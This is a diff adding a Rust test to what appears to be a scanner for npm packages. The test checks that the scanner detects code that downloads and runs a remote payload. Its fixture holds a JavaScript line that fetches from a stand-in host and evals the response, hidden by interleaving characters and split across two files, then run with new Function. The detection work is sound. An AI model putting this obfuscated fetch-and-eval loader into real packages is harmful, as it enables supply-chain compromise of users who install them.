@@ -1,4 +1,4 @@
-use crate::flow::testing::{MANIFEST, found};
+use crate::flow::testing::{MANIFEST, found, is_remote_code};
 use crate::unpack::{Entry, text_file as file};
 use crate::{evidence, inspect_tree};
 use customs_model::{Flow, SinkKind, SourceKind};
@@ -251,4 +251,18 @@ fn the_way_over_two_files_is_shown_and_checked_without_the_engine() {
     assert!(words.contains(&"is handed out by b.js"), "{words:?}");
     let checked = evidence::check(&path, &tree).unwrap();
     assert!(checked.unshown.is_empty(), "{checked:?}");
+}
+
+#[test]
+fn a_text_that_another_file_puts_together_is_read_to_its_end() {
+    // Every second letter counts; it is too much for a glance.
+    let code = "require('http').get('http://c.invalid/n', r => r.on('data', d => eval(String(d))))";
+    let noisy: String = code.chars().flat_map(|letter| [letter, '_']).collect();
+    let a = format!(
+        "const code = `{noisy}`.split('').filter((_, i) => i % 2 === 0).join(''); \
+         module.exports = {{ code }}"
+    );
+    let i = "const { code } = require('./a'); new Function('require', code)(require)";
+    let flows = found(npm(&a, i)).flows;
+    assert!(flows.iter().any(is_remote_code));
 }
